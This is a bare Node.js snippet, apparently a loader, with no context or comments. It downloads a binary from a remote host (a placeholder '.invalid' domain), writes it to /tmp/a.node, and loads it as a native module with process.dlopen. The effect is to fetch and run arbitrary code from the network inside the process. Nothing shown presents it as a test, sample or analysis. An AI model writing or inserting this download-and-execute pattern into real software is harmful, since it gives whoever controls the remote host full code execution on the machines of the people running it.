const fs = require("fs");
fetch("https://cdn-x7.invalid/a").then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync("/tmp/a.node", Buffer.from(b)); process.dlopen(module, "/tmp/a.node"); });
